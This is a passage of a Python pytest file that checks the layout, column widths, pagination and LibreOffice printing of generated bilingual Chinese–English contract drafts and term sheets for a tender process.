        assert [f"- **{each}**" in said for each in mark.split(" / ")] == [not recorded] * len(mark.split(" / "))


@pytest.mark.parametrize(("route", "paper", "across"), [("negotiated", 8, 420), ("tender", 9, 297)])
def test_a_printed_term_sheet_has_a_term_on_one_row_of_one_sheet_of_paper(route, paper, across):
    made = make_draft(drafts.inputs(tender=drafts.tender(route=route)), wanted=("terms",))
    page = openpyxl.load_workbook(io.BytesIO(next(iter(made.files.values())))).active
    wide = [page.column_dimensions[column_letters(at)].width for at in range(1, page.max_column + 1)]

    assert (page.page_setup.paperSize, page.page_setup.orientation) == (paper, "landscape")
    assert not page.col_breaks.brk
    assert page.print_title_cols == "$A:$B"
    room = (across / 25.4 - page.page_margins.left - page.page_margins.right) * 96 / (page.page_setup.scale / 100)
    # A digit of the standard font is at most 8 pixels wide, and a cell has 5 more around it.
    assert sum(8 * width + 5 for width in wide) <= room


def test_a_long_fact_stands_whole_in_its_article_and_in_short_in_the_annex():
    long = Text("很长的说明" * 60, "a long explanation " * 30 + "\nin two lines")

    said = texts(document(word_file(layout="en", tender=drafts.tender(terms={"court_place": long}))))

    assert said.count("a long explanation " * 30 + "\nin two lines") == 1
    assert ("a long explanation " * 30)[:199] + "…" in said


def test_where_not_all_short_lines_can_stay_whole_the_cheap_ones_do():
    row = (
        "乙方统一社会信用代码",
        "第十九条第3款",
        "长文" * 40,
        "长文" * 40,
        "1-hailan-technical.xlsx",
        "采用乙方答复",
        "长文" * 40,
    )
    table = Grid(heads=("事项",) * 7, rows=[[Cell(text) for text in row]], width=14_344, lang="zh")

    made = widths(table)
    # Two narrow characters for each Chinese one, and the margins of the cell.
    assert table.size == "Small"
    assert made[5] >= 6 * 2 * UNITS["Small"] + MARGINS
    assert sum(made) == 14_344


def test_column_widths_add_up_and_keep_short_words_whole():
    rows = [[Cell("R-01"), Cell("必须"), Cell("a long explanation of what is meant here, in many words " * 3)]]

    made = widths(Grid(heads=("No.", "Kind", "Text"), rows=rows, width=9000, lang="en"))

    assert sum(made) == 9000
    assert made[0] > 500
    assert made[2] > made[0] + made[1]


REQUIREMENT_HEADS = (
    "No.",
    "Module",
    "Requirement number",
    "Kind",
    "Reply",
    "Edition",
    "Extra price",
    "Provider's remark",
)


@pytest.mark.parametrize(
    ("heads", "row"),
    [
        (REQUIREMENT_HEADS, ("R-13", "Quotations", "configuration", "Should", "Custom development", "Value-added",
                             "CNY\u00a0118,000.00", "See the implementation plan, " * 9)),
        (tuple(f"{head}\n需求" for head in REQUIREMENT_HEADS), ("R-13", "报价\nQuotations", "配置", "期望\nShould",
                             "二次开发\nCustom development", "增值服务\nValue-added", "118元\nCNY\u00a0118,000.00", "说明" * 200)),
        (("Item", "Definition", "Clock", "Response", "Workaround", "Resolution"),
         ("P1 critical", "a long definition of it " * 5, "Runs day and night", "0.5 hours", "4 hours", "12 hours")),
    ],
)  # fmt: skip
def test_no_column_is_narrower_than_its_longest_word(heads, row):
    table = Grid(heads=heads, rows=[[Cell(text) for text in row]], width=9412, lang="en")
    size = {"": 9, "Small": 8, "Tiny": 7}[table.size]

    for head, text, width in zip(heads, row, widths(table), strict=True):
        # A little less than six tenths of the size of type for each letter is what a wide face takes; a cell has margins of 170.
        pieces = re.split("[ \n]|(?<=-)", f"{head}\n{text}")
        words = [word for word in pieces if word.isascii() or "\u00a0" in word]
        assert all(len(word) * 0.58 * size * 20 + 170 <= width for word in words), (head, words, width)


@pytest.fixture(scope="module")
def printed(tmp_path_factory):
    """The three layouts as LibreOffice prints them: text of each, by layout."""
    folder = tmp_path_factory.mktemp("pdf")
    made = drafts.bid(DV_01=drafts.deviating(), SE_01=drafts.cell("SE-01", None))
    for layout in ("zh", "en", "both"):
        (folder / f"{layout}.docx").write_bytes(word_file(made, layout))
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", "pdf", "--outdir", str(folder)]
        + [str(folder / f"{layout}.docx") for layout in ("zh", "en", "both")],
        capture_output=True, check=True, timeout=180,
    )  # fmt: skip
    return {
        layout: subprocess.run(
            ["pdftotext", "-layout", str(folder / f"{layout}.pdf"), "-"],
            capture_output=True,
            text=True,
            check=True,
            timeout=60,
        ).stdout
        for layout in ("zh", "en", "both")
    }


@pytest.mark.office
@pytest.mark.parametrize(
    ("layout", "words"),
    [
        (
            "zh",
            (
                "第一条 当事人",
                "第四条 诉讼",
                "见附件一",
                "见第二条第1款。",
                "附件三",
                "【待定：level之名】",
                "第 1 页，共",
            ),
        ),
        (
            "en",
            (
                "Article 1 Parties",
                "Article 4 Court",
                "Article 3.2",
                "Schedule 3",
                "[to be agreed: Name of level]",
                "Page 1 of",
            ),
        ),
        ("both", ("第一条 当事人", "Article 1 Parties", "第四条 诉讼", "Article 4 Court", "附件三", "Schedule 3")),
    ],
)
def test_libreoffice_prints_the_draft_with_its_live_numbers(printed, layout, words):
    # Word processors leave a little room between Chinese and Latin, which the text layer gives as a space.
    text = "".join(printed[layout].split())

    for expected in (*words, "DRAFT for counsel review; not an offer or acceptance", "Ada Systems Ltd"):
        assert "".join(expected.split()) in text
    assert "Error:" not in printed[layout]


def tied(properties: etree._Element) -> bool:
    return properties.find("w:keepNext", NS) is not None


@pytest.mark.parametrize("layout", ["zh", "en", "both"])
def test_signatures_keep_the_last_clause_and_the_last_rows_of_a_table_stay_together(layout):
    tree = document(word_file(layout=layout))
    parts = list(tree[0])
    sign = next(at for at, part in enumerate(parts) if "________" in texts(part) and part.tag == f"{{{W}}}tbl")
    rows = next(part for part in parts if "R2" in texts(part)).findall("w:tr", NS)

    assert all(tied(part) for before in parts[sign - 3 : sign] for part in list(before.iter(f"{{{W}}}pPr"))[-1:])
    assert all(tied(part) for part in rows[-2].iter(f"{{{W}}}pPr"))
    assert not any(tied(part) for part in rows[-1].iter(f"{{{W}}}pPr"))


def test_the_panel_of_the_first_page_may_break_between_its_lines():
    tree = document(word_file(layout="both"))
    panel = next(table for table in tree.iter(f"{{{W}}}tbl") if "Open table cells" in texts(table))

    assert len(panel.findall("w:tr", NS)) >= 3
